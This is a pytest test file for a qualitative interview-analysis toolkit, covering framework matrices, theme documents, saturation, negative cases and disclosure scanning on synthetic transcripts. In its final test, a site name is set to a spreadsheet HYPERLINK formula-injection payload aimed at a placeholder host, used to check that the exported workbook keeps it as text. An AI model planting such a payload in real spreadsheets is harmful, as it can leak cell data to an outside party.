"""Framework matrix, themes .docx, saturation, negative cases, attribute queries and the unreviewed labelling,
each on a small corpus whose right answer is worked out by hand below."""

from __future__ import annotations

import pandas as pd
import pytest

from cm_research.qual import parse_codebook, read_transcripts
from cm_research.qual.cases import negative_cases, theme_attribute_matrix
from cm_research.qual.coding import coded_segments
from cm_research.qual.framework import (SUMMARY_HEADER, framework_entries, framework_file_name, framework_matrix,
                                        framework_matrix_is_internal, framework_matrix_overview,
                                        write_framework_xlsx)
from cm_research.qual.saturation import assess_saturation, new_codes_curve, plot_saturation, saturation_runs
from cm_research.qual.themes_docx import themes_docx_name, write_themes_docx

BOOK = parse_codebook({"themes": [
    {"name": "trust", "label": "Trust", "definition": "Trust in the mentor.", "codes": [
        {"name": "trusting", "label": "Trusting", "definition": "Trusting the mentor.",
         "hints": {"words": ["trust"]}},
        {"name": "reliable", "label": "Reliable", "definition": "The mentor turning up.",
         "hints": {"phrases": ["turned up"]}}]},
    {"name": "art", "label": "Art", "definition": "Art in the sessions.", "codes": [
        {"name": "drawing", "label": "Drawing", "definition": "Drawing.", "hints": {"words": ["drawing", "draw"]}}]},
]}, source="test")


def _head(name, role, site, date):
    return (f"# SYNTHETIC test transcript\nPseudonym: {name}\nRole: {role}\nSite: {site}\nDate: {date}\n"
            f"Interviewer: Sam\n---\n")


@pytest.fixture
def corpus(tmp_path, write_transcript):
    # interviews done in the order b, a, c (by date), not in file-name order
    write_transcript("a.txt", "Sam: How was it?\nAmy: I trust her now. She turned up every week. Amy likes drawing.\n",
                     head=_head("Amy", "mentee", "North", "2025-02-01"))
    write_transcript("b.txt", "Sam: How was it?\nBen: She said she could trust me. We did some drawing.\n",
                     head=_head("Ben", "mentor", "North", "2025-01-15"))
    write_transcript("c.txt", "Sam: How was it?\nCal: I never trusted him. I hated drawing.\n",
                     head=_head("Cal", "mentee", "South", "2025-03-01"))
    return read_transcripts(tmp_path)


def _human(corpus, pairs):
    """Coding rows for (transcript, sentence text, code), as a person would enter them."""
    seg = corpus.segments()
    rows = []
    for transcript, text, code in pairs:
        s = seg[(seg["transcript"] == transcript) & (seg["text"] == text)].iloc[0]
        rows.append({"transcript": transcript, "start": s["start"], "end": s["end"], "segment_id": s["segment_id"],
                     "code": code, "coder": "A", "source": "human", "quote": text, "row": 2})
    return coded_segments(pd.DataFrame(rows), seg)


def test_framework_matrix_cells_and_xlsx(corpus, tmp_path):
    coded = _human(corpus, [("a", "I trust her now.", "trusting"), ("a", "She turned up every week.", "reliable"),
                            ("b", "She said she could trust me.", "trusting"),
                            ("a", "Amy likes drawing.", "drawing"), ("c", "I hated drawing.", "drawing")])
    people = corpus.participants()
    entries = framework_entries(coded, people, BOOK, names=["Amy", "Ben", "Cal"])
    matrix = framework_matrix(entries, people, BOOK, "trust")
    # by hand: cases are mentees then mentors, numbered by site and transcript: mentee 1 = Amy (a, North),
    # mentee 2 = Cal (c, South), mentor 1 = Ben; Amy's sentences are turn 2, sentences 1 and 2
    assert matrix.columns.tolist() == ["case", "role", "site", SUMMARY_HEADER, "Trusting", "Reliable"]
    assert matrix["case"].tolist() == ["mentee 1", "mentee 2", "mentor 1"]
    assert matrix["Trusting"].tolist() == ["[2.1] \u201cI trust her now.\u201d", "",
                                           "[2.1] \u201cShe said she could trust me.\u201d"]
    assert matrix["Reliable"].tolist() == ["[2.2] \u201cShe turned up every week.\u201d", "", ""]
    assert set(matrix[SUMMARY_HEADER]) == {""}
    art = framework_matrix(entries, people, BOOK, "art")
    assert art["Drawing"].tolist() == ["[2.3] \u201c[name] likes drawing.\u201d",  # the name is redacted
                                       "[2.2] \u201cI hated drawing.\u201d", ""]
    overview = framework_matrix_overview(entries, people, BOOK).set_index("case")
    assert overview.loc["mentee 1", "Trust"] == 2 and overview.loc["mentee 2", "Trust"] == 0
    assert overview.loc["mentor 1", "Trust"] == 1 and overview.loc["mentee 2", "Art"] == 1

    from openpyxl import load_workbook

    path = write_framework_xlsx(entries, people, BOOK, tmp_path / framework_file_name(True), unreviewed=True)
    assert path.name == "framework_matrix_UNREVIEWED_SUGGESTIONS.xlsx" and framework_file_name(False) == "framework_matrix.xlsx"
    book = load_workbook(path)
    assert book.sheetnames == ["Trust", "Art"]
    sheet = book["Trust"]
    assert sheet.freeze_panes == "B3"
    assert "unreviewed suggested codes" in sheet["A1"].value
    assert [c.value for c in sheet[2]] == ["Case", "Role", "Site", SUMMARY_HEADER,
                                           "Trusting [unreviewed suggestions]", "Reliable [unreviewed suggestions]"]
    assert sheet["E3"].value == "[2.1] \u201cI trust her now.\u201d" and sheet["E3"].alignment.wrap_text
    assert sheet["A5"].value == "mentor 1"
    reviewed = load_workbook(write_framework_xlsx(entries, people, BOOK, tmp_path / "f.xlsx"))["Trust"]
    assert reviewed["E2"].value == "Trusting" and "unreviewed" not in reviewed["A1"].value


def test_framework_matrix_is_internal_only_in_an_internal_run(tmp_path):
    assert not framework_matrix_is_internal(tmp_path / "scratch")  # in no run: quotes stay in restricted/
    (tmp_path / "pub").mkdir()
    (tmp_path / "pub" / "manifest.json").write_text('{"publication": true}')
    assert not framework_matrix_is_internal(tmp_path / "pub" / "all-sites")
    (tmp_path / "int").mkdir()
    (tmp_path / "int" / "manifest.json").write_text('{"publication": false}')
    assert framework_matrix_is_internal(tmp_path / "int" / "all-sites")
    (tmp_path / "int" / "all-sites").mkdir()
    (tmp_path / "int" / "all-sites" / ".staging-03").mkdir()  # where a batch job writes
    assert framework_matrix_is_internal(tmp_path / "int" / "all-sites" / ".staging-03")


def _coded(sets, dates):
    """Coded rows and participants for interviews z1..zn with the given code sets and dates."""
    rows, people = [], []
    for k, (codes, date) in enumerate(zip(sets, dates), start=1):
        people.append({"transcript": f"z{k}", "participant": f"P{k}", "participant_label": f"mentee {k}",
                       "role": "mentee", "site": "X", "date": date})
        rows += [{"transcript": f"z{k}", "participant": f"P{k}", "segment_id": f"z{k}#1.{j}", "code": c,
                  "is_interviewer": False} for j, c in enumerate(sorted(codes), start=1)]
    return pd.DataFrame(rows), pd.DataFrame(people)


def test_saturation_by_hand():
    # done in the order z1..z6 by date (z6 was entered first but done last)
    coded, people = _coded([{"A", "B", "C", "D"}, {"A", "E"}, {"F"}, {"A"}, {"B"}, {"G"}],
                           ["2025-01-01", "2025-01-02", "2025-01-03", "2025-01-04", "2025-01-05", "2025-01-06"])
    people = people.iloc[::-1]
    curve = new_codes_curve(coded, people)
    assert curve["transcript"].tolist() == ["z1", "z2", "z3", "z4", "z5", "z6"]
    assert curve["n_new"].tolist() == [4, 1, 1, 0, 0, 1]
    assert curve["cumulative"].tolist() == [4, 5, 6, 6, 6, 7]
    assert curve["new_codes"].tolist() == ["A; B; C; D", "E", "F", "", "", "G"]
    # base = interviews 1-2: codes A-E, 5. Runs of 2: 3-4 adds F (1/5 = 20%), 4-5 adds nothing (0%),
    # 5-6 adds G (20%)
    runs = saturation_runs(curve, base_size=2, run_length=2, threshold=0.05)
    assert runs[["run_start", "run_end", "n_new", "base_codes"]].values.tolist() == [[3, 4, 1, 5], [4, 5, 0, 5],
                                                                                     [5, 6, 1, 5]]
    assert runs["ratio"].tolist() == pytest.approx([0.2, 0.0, 0.2])
    strict = assess_saturation(curve, base_size=2, run_length=2, threshold=0.05)
    assert strict["reached"] and strict["saturation_point"] == 3  # the run 4-5 is the first at <=5%
    assert strict["sentence"].startswith("Saturation reached at 3 interviews (base 2, run 2, \u22645% new information)")
    loose = assess_saturation(curve, base_size=2, run_length=2, threshold=0.20)
    assert loose["saturation_point"] == 2  # 20% <= 20%: the first run already meets it
    never = assess_saturation(curve, base_size=2, run_length=3, threshold=0.1)  # runs 3-5 (20%), 4-6 (20%)
    assert not never["reached"] and never["saturation_point"] is None and "not reached" in never["sentence"]
    short = assess_saturation(curve, base_size=5, run_length=2)
    assert not short["reached"] and "cannot be assessed" in short["sentence"]
    ax = plot_saturation(curve, strict, title="t")
    assert len(ax.patches) >= 6 and ax.get_title() == "t"


def test_negative_cases_by_hand():
    people = pd.DataFrame({"transcript": ["a", "b", "c"], "participant": ["P1", "P2", "P3"],
                           "participant_label": ["mentee 1", "mentee 2", "mentor 1"],
                           "role": ["mentee", "mentee", "mentor"], "site": ["N", "N", "S"]})
    rows = pd.DataFrame([
        # P1: one sentence, against the trust theme only -> a negative case
        ("P1", "a#2.1", "trusting", True, "I never trusted Amy."),
        # P2: one sentence for, one against -> mixed; a sentence with one code against and another code of the
        # same theme for (a#... s2) counts for
        ("P2", "b#2.1", "trusting", False, "I trust her."),
        ("P2", "b#2.2", "trusting", True, "I didn't trust the others."),
        ("P2", "b#2.3", "trusting", True, "Not that she never turned up."),
        ("P2", "b#2.3", "reliable", False, "Not that she never turned up."),
        # P3: for only -> not listed
        ("P3", "c#2.1", "drawing", False, "We did drawing."),
    ], columns=["participant", "segment_id", "code", "negated", "text"])
    out = negative_cases(rows, people, BOOK, names=["Amy"])
    assert out[["theme", "case", "n_for", "n_against", "pattern"]].values.tolist() == [
        ["trust", "mentee 1", 0, 1, "against only"], ["trust", "mentee 2", 2, 1, "mixed"]]
    assert out["quotes_against"].tolist() == ["I never trusted [name].", "I didn't trust the others."]


def test_theme_attribute_matrix_by_hand():
    people = pd.DataFrame({"transcript": ["a", "b", "c", "d"], "participant": ["P1", "P2", "P3", "P4"],
                           "participant_label": ["mentee 1", "mentee 2", "mentee 3", "mentor 1"],
                           "role": ["mentee"] * 3 + ["mentor"], "site": ["N", "N", "S", "S"]})
    ages = pd.DataFrame({"participant": ["P1", "P2", "P3"], "age_band": ["11-13", "14-16", "14-16"]})
    coded = pd.DataFrame({"participant": ["P1", "P2", "P2", "P4"], "segment_id": ["a#1", "b#1", "b#2", "d#1"],
                          "code": ["trusting", "reliable", "trusting", "drawing"], "is_interviewer": False})
    out = theme_attribute_matrix(coded, people, BOOK, by="age_band", attributes=ages)
    got = out.set_index(["theme", "age_band"])
    # by hand: 11-13 = {P1}, 14-16 = {P2, P3}, not recorded = {P4}; trust raised by P1 and P2 (2 sentences)
    assert got.loc[("trust", "11-13"), ["n_segments", "n_participants", "n_group_participants"]].tolist() == [1, 1, 1]
    assert got.loc[("trust", "14-16"), ["n_segments", "n_participants", "n_group_participants"]].tolist() == [2, 1, 2]
    assert got.loc[("trust", "14-16"), "share_participants"] == 0.5
    assert got.loc[("art", "not recorded"), ["n_participants", "n_group_participants"]].tolist() == [1, 1]
    assert len(out) == 2 * 3  # every theme and every value
    site = theme_attribute_matrix(coded, people, BOOK, by="site").set_index(["theme", "site"])
    assert site.loc[("trust", "N"), "n_participants"] == 2 and site.loc[("trust", "S"), "n_participants"] == 0
    with pytest.raises(ValueError, match="no participant attribute 'placement'"):
        theme_attribute_matrix(coded, people, BOOK, by="placement")


def test_themes_docx(tmp_path):
    import docx

    generated = pd.DataFrame({"theme": ["trust", "art"], "sentence": [
        "Trust: generated by views of mentees (2 of 2).", "Art: not generated by any role at this threshold."]})
    quotes = pd.DataFrame({"theme": ["trust"], "quote": ["I trust Amy."], "quote_display": ["I trust [name]."],
                           "role": ["social_worker"], "site": ["North"]})
    path = write_themes_docx(BOOK, generated, quotes, tmp_path / themes_docx_name(True), unreviewed=True,
                             synthetic=True)
    assert path.name == "themes_UNREVIEWED_SUGGESTIONS.docx" and themes_docx_name(False) == "themes.docx"
    text = [p.text for p in docx.Document(str(path)).paragraphs]
    assert text[0] == "Themes from the interviews (unreviewed suggested codes)"
    assert any(t.startswith("Not an analysis: these themes") for t in text)
    assert any(t.startswith("Synthetic data") for t in text)
    i = text.index("Trust")
    assert text[i + 1] == "Trust in the mentor."
    assert text[i + 2] == "Trust: generated by views of mentees (2 of 2). (from unreviewed suggestions)"
    assert "Trusting: Trusting the mentor." in text and "Reliable: The mentor turning up." in text
    assert "\u201cI trust [name].\u201d \u2014 social worker, North" in text
    assert "I trust Amy." not in " ".join(text)
    j = text.index("Art")
    assert "No complete sentence of a suitable length was coded with this theme." in text[j:]
    plain = [p.text for p in docx.Document(str(write_themes_docx(BOOK, generated, quotes, tmp_path / "t.docx",
                                                                  basis="human coding by A"))).paragraphs]
    assert plain[0] == "Themes from the interviews" and "Counts rest on human coding by A." in plain


def test_outputs_from_suggestions_say_so_in_name_header_and_caption(tmp_path, corpus):
    from cm_research.qual.workflow import (CODING_TABLES, UNREVIEWED_HEADER, caption, run_thematic_analysis,
                                           save_saturation_figure, write_outputs)

    folder = corpus.transcripts[0].path.parent
    result = run_thematic_analysis(folder, codebook=BOOK, saturation_base=1, saturation_run=1)
    paths = write_outputs(result, tmp_path / "out")
    for name in CODING_TABLES:
        assert paths[name].name == f"{name}_UNREVIEWED_SUGGESTIONS.csv", name
        assert pd.read_csv(paths[name]).columns[0] == UNREVIEWED_HEADER, name
    assert paths["interviews"].name == "interviews.csv"  # not built from the coding
    assert paths["framework_matrix"].relative_to(tmp_path / "out").as_posix() == \
        "restricted/framework_matrix_UNREVIEWED_SUGGESTIONS.xlsx"
    assert paths["themes_docx"].name == "themes_UNREVIEWED_SUGGESTIONS.docx"
    assert "quotes_against" not in pd.read_csv(paths["negative_cases"]).columns  # published: counts only
    assert paths["negative_cases_quotes"].parent.name == "restricted"
    assert "quotes_against" in pd.read_csv(paths["negative_cases_quotes"]).columns
    assert caption(result, "Table") == "Table \u2014 from unreviewed suggested codes"
    ax = save_saturation_figure(result, tmp_path / "out")
    assert (tmp_path / "out" / "saturation_curve_UNREVIEWED_SUGGESTIONS.png").stat().st_size > 5_000
    assert "unreviewed" in ax.get_title()
    from cm_research.qual.workflow import framework_section

    note, shown = framework_section(result, tmp_path / "out")  # in no run: counts only
    assert [t for t, _ in shown] == ["Framework matrix overview: coded sentences per case and theme \u2014 from "
                                     "unreviewed suggested codes"]
    assert "restricted/framework_matrix_UNREVIEWED_SUGGESTIONS.xlsx" in note
    (tmp_path / "manifest.json").write_text('{"publication": false}')
    note, shown = framework_section(result, tmp_path / "out")  # an internal run: a matrix per theme
    assert [t for t, _ in shown] == ["Framework matrix: Trust \u2014 from unreviewed suggested codes",
                                     "Framework matrix: Art \u2014 from unreviewed suggested codes"]
    assert "\u201cI trust [name] now.\u201d" not in shown[0][1].to_string()  # "her", not a name, in this corpus
    assert shown[0][1].loc[0, "Trusting"] == "[2.1] \u201cI trust her now.\u201d"
    # by hand: suggestions are "trust" (a 2.1, b 2.1; c 2.1 is negated by "never"), "turned up" (a 2.2),
    # "drawing" (a 2.3, b 2.2, c 2.2); Cal's "I never trusted him" goes against trust
    neg = result.tables["negative_cases"]
    assert neg[["theme", "case", "pattern"]].values.tolist() == [["trust", "mentee 2", "against only"]]
    curve = result.tables["saturation_curve"]
    assert curve["case"].tolist() == ["mentor 1", "mentee 1", "mentee 2"]  # b, a, c by date
    assert curve["n_new"].tolist() == [2, 1, 0]  # b: trusting, drawing; a: + reliable; c: drawing only


def test_the_disclosure_scan_reads_the_themes_docx(tmp_path):
    from cm_research.privacy.scan import check_disclosure

    generated = pd.DataFrame({"theme": ["trust"], "sentence": ["Trust: generated by views of mentees (1 of 1)."]})
    quotes = pd.DataFrame({"theme": ["trust"], "quote": ["x"], "quote_display": ["Ask SYN-NS-0003 about it."],
                           "role": ["mentee"], "site": ["North"]})
    write_themes_docx(BOOK, generated, quotes, tmp_path / "run" / "themes.docx")
    findings = check_disclosure(tmp_path / "run", register=["SYN-NS-0003"])
    assert findings[["file", "kind", "text"]].values.tolist() == [["themes.docx", "register", "SYN-NS-0003"]]
    clean = quotes.assign(quote_display="I trust [name].")
    write_themes_docx(BOOK, generated, clean, tmp_path / "run" / "themes.docx")
    assert check_disclosure(tmp_path / "run", register=["SYN-NS-0003"]).empty  # readable, so no unscanned_file


def test_framework_xlsx_never_writes_a_formula(tmp_path, write_transcript):
    """A site name typed as a formula in a transcript header (hostile or careless) stays text in the workbook:
    openpyxl stores any string starting with '=' as a live formula unless told otherwise."""
    from openpyxl import load_workbook

    site = '=HYPERLINK("http://example.invalid/?leak="&A3,"open")'
    write_transcript("a.txt", "Sam: How was it?\nAmy: I trust her now.\n",
                     head=_head("Amy", "mentee", site, "2025-02-01"))
    corpus = read_transcripts(tmp_path)
    coded = _human(corpus, [("a", "I trust her now.", "trusting")])
    people = corpus.participants()
    entries = framework_entries(coded, people, BOOK, names=["Amy"])
    sheet = load_workbook(write_framework_xlsx(entries, people, BOOK, tmp_path / "f.xlsx"))["Trust"]
    assert sheet["C3"].value == site and sheet["C3"].data_type == "s"  # shown as typed, never evaluated
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
